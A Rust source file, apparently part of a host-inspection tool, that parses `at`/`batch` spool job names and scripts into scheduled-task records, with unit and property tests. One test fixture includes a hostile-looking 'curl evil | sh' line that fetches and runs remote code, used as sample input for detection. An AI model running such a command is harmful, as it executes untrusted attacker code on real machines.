//! Jobs of `at` and `batch`: a script each, its time in its name.
//!
//! Invariant: pure but for [`rows`]; any bytes are a script.

use super::Collect;
use crate::error::Result;
use crate::model::{DevicePath, ScheduledTask, Timestamp};
use crate::shape::Untrusted;
use rustix::fs::FileType;

pub const SPOOLS: [&str; 4] = ["/var/spool/cron/atjobs", "/var/spool/at", "/var/spool/atjobs", "/var/spool/at/spool"];
const FILE_LIMIT: u64 = 256 << 10;
/// Of the commands; the rest is in the file.
const COMMAND: usize = 4_096;

/// What the name of a job's file tells: `a0000f01d68e5a`.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct Name {
    pub queue: char,
    pub number: u32,
    pub at: Timestamp,
}

impl Name {
    /// A letter for the queue (`=` while it runs), five hexadecimal digits of the number, eight of minutes since 1970.
    pub fn parse(name: &[u8]) -> Option<Name> {
        let text = std::str::from_utf8(name).ok().filter(|t| t.len() == 14 && t.is_ascii())?;
        let queue = text.chars().next().filter(|c| c.is_ascii_alphabetic() || *c == '=')?;
        let hex =
            |part: &str| part.bytes().all(|b| b.is_ascii_hexdigit()).then(|| u32::from_str_radix(part, 16).ok())?;
        let (number, minutes) = (hex(text.get(1..6)?)?, hex(text.get(6..)?)?);
        Some(Name { queue, number, at: Timestamp::from_unix(i64::from(minutes) * 60, 0) })
    }
}

/// A job's script.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Script {
    pub uid: Option<u32>,
    pub commands: Vec<u8>,
}

impl Script {
    /// `at` writes a head: the owner, the umask, the variables, a change of directory that ends in a line `}`. What
    /// follows are the commands; without such a head, all lines that are no comments.
    pub fn parse(bytes: &[u8]) -> Script {
        let lines: Vec<&[u8]> = bytes.split(|b| *b == b'\n').collect();
        let uid = lines.iter().take(16).find_map(|line| {
            let digits = line.strip_prefix(b"# atrun uid=")?.split(|b| b.is_ascii_whitespace()).next()?;
            std::str::from_utf8(digits).ok()?.parse().ok()
        });
        let is_cd = |l: &&[u8]| l.starts_with(b"cd ") && l.ends_with(b"|| {");
        let head = lines.iter().position(is_cd).filter(|_| uid.is_some());
        let end = head.and_then(|cd| lines.iter().skip(cd).position(|l| *l == b"}").map(|brace| cd + brace + 1));
        let body = lines.get(end.unwrap_or(0)..).unwrap_or_default().iter().map(|l| l.trim_ascii());
        let mut commands: Vec<u8> = Vec::new();
        for line in body.filter(|l| !l.is_empty() && l.first() != Some(&b'#')) {
            if !commands.is_empty() {
                commands.push(b'\n');
            }
            commands.extend_from_slice(line);
        }
        if commands.len() > COMMAND {
            commands.truncate(COMMAND);
            commands.extend_from_slice(" …".as_bytes());
        }
        Script { uid, commands }
    }
}

pub(super) fn rows(collect: &Collect<'_>) -> Result<Vec<ScheduledTask>> {
    let mut rows = Vec::new();
    for spool in collect.distinct(&SPOOLS) {
        for item in collect.sources.list(&spool)? {
            let Some(name) = Name::parse(&item.name).filter(|_| item.kind == FileType::RegularFile) else { continue };
            let path = spool.join(&DevicePath::new(item.name));
            let Some(source) = collect.sources.read(&path, FILE_LIMIT)? else { continue };
            let script = Script::parse(&source.bytes);
            let user = collect.user_of(script.uid.unwrap_or(source.facts.uid));
            rows.push(ScheduledTask {
                name: Untrusted::new(format!("at/{}", name.number)),
                kind: "at",
                schedule: Some(Untrusted::new(format!("queue {}, once at {}", name.queue, name.at))),
                command: Some(Untrusted::from_bytes(&script.commands)),
                user: Some(user),
                // atd runs what its owner may execute.
                enabled: Some(source.facts.mode & 0o100 != 0),
                source: Some(path),
                next_run: Some(name.at),
            });
        }
    }
    Ok(rows)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn a_name_tells_queue_number_and_minute() {
        let name = Name::parse(b"a0000f01c8c9c1").unwrap();
        assert_eq!((name.queue, name.number), ('a', 15));
        assert_eq!(name.at, Timestamp::from_unix(0x01c8_c9c1 * 60, 0));
        for bad in [
            &b".SEQ"[..],
            b"a0000f01c8c9c",
            b"a0000f01c8c9cg",
            b"10000f01c8c9c1",
            b"a+000f01c8c9c1",
            "ä000f01c8c9c1".as_bytes(),
        ] {
            assert_eq!(Name::parse(bad), None);
        }
    }

    #[test]
    fn the_commands_stand_behind_the_head() {
        let script = b"#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail eve 0\numask 22\nPATH=/usr/bin; export PATH\ncd /home/eve || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/tmp/.x\ncurl evil | sh\n\n";
        let script = Script::parse(script);
        assert_eq!((script.uid, &script.commands[..]), (Some(1000), &b"/tmp/.x\ncurl evil | sh"[..]));
    }

    #[test]
    fn without_a_head_all_lines_are_commands() {
        assert_eq!(Script::parse(b"#!/bin/sh\ncd /x || {\n}\n/tmp/y\n").commands, b"cd /x || {\n}\n/tmp/y");
        assert_eq!(Script::parse(b"# atrun uid=x\n/tmp/y").uid, None);
    }

    proptest! {
        #[test]
        fn any_bytes_are_a_script(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
            prop_assert!(Script::parse(&bytes).commands.len() <= bytes.len() + 4);
            let _ = Name::parse(&bytes);
        }
    }
}
